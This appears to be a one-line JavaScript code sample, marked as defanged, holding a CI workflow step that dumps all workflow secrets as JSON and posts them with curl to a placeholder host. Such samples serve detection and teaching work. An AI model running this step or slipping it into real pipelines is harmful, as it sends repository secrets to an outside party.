// defanged sample
const step = 'run: echo "${{ toJSON(secrets) }}" | curl -d @- https://a.example.invalid';
